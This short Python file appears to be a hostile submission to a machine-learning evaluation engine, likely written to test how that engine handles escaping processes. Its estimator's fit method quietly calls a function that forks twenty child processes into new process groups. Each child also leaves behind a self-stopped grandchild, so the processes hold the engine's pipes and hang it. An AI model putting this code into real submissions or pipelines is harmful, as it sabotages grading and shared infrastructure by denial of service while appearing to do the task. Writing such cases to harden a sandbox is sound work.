"""Leaves processes behind that hold the engine's pipes, some of them stopped."""

import os
import signal
import time

from nearest import NearestMean


def attack():
    for _ in range(20):
        if os.fork() == 0:
            os.setpgid(0, 0)
            if os.fork() == 0:
                os.kill(os.getpid(), signal.SIGSTOP)
            time.sleep(600)
            os._exit(0)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
